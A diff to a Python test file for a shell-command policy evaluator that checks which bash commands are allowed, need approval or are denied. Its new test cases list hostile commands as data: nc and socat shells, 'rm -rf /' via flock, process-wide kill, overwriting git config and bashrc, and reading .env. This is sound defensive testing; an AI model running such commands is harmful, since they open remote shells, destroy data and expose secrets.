@@ -103,7 +103,9 @@ def test_every_rule_is_spelled_with_known_words() -> None:
 
     for r in RECORDS:
         for rule in r.rules:
-            assert all(t in TESTS or t.startswith("-") for t in rule.when.split()), (r.name, rule)
+            parts = [p for t in rule.when.split() for p in t.split("&")]
+            tests = [t for t in parts if not t.startswith(("-", "is:", "^")) and t[-1:] != "="]
+            assert set(tests) <= TESTS or tests == ["="], (r.name, rule)
             assert set(rule.effect.split()) <= EFFECTS and rule.risk in _RISK, (r.name, rule)
             assert rule.when.split() and rule.says, (r.name, rule)
 
@@ -191,3 +193,35 @@ def test_git_subcommands_are_data() -> None:
 def test_git_blame_contents_is_judged_not_a_crash(project: Path, command: str, decision: str) -> None:
     verdict = evaluate("bash", {"command": command}, workspace=project)
     assert str(verdict.decision) == decision and "could not evaluate" not in verdict.reason
+
+
+@pytest.mark.parametrize(("name", "judged_by"), [("kill", "rules"), ("socat", "rules"), ("sed", "handler")])
+def test_the_surface_says_who_judges_a_record_without_options(name: str, judged_by: str) -> None:
+    """Rule-judged records (no handler) are described as judged by their rules, not a handler."""
+    from cairn.policy.surface import programs
+
+    (surface,) = programs(name)
+    assert surface.judged_by == judged_by
+    assert ("handler" in surface.reads) == (judged_by == "handler")
+
+
+@pytest.mark.parametrize(
+    ("command", "decision"),
+    [
+        ("jq --args '$ENV' a", "ask"),  # the first word after --args is still the program
+        ("yq -o json 'strenv(HOME)' README.md", "ask"),  # -o takes a value: the program is next
+        ("nc --sh-exec=sh host 80", "deny"),
+        ("nc -lvpe sh 80", "deny"),
+        ("kill -s KILL -1", "deny"),
+        ("socat TCP4:host:1 EXEC:/bin/sh", "deny"),
+        ("dd if=README.md of=.git/config", "deny"),
+        ("history -w ~/.bashrc", "deny"),
+        ("watch -n 1 'cat .env'", "ask"),
+        ("flock -c 'rm -rf /' .lock", "deny"),
+    ],
+)
+def test_programs_moved_from_handlers_to_records_keep_their_verdicts(
+    project: Path, command: str, decision: str
+) -> None:
+    verdict = evaluate("bash", {"command": command}, workspace=project)
+    assert str(verdict.decision) == decision, (command, verdict.reason)
